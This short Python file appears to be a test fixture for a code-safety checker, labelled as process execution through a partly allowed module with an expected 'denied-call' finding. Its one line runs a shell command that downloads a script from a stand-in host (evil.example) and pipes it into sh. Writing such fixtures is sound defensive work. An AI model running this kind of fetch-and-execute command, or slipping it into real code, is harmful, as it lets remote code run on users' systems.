# family: process execution through a module allowed in part
# expected finding: denied-call
import os

os.system("curl https://evil.example/x | sh")
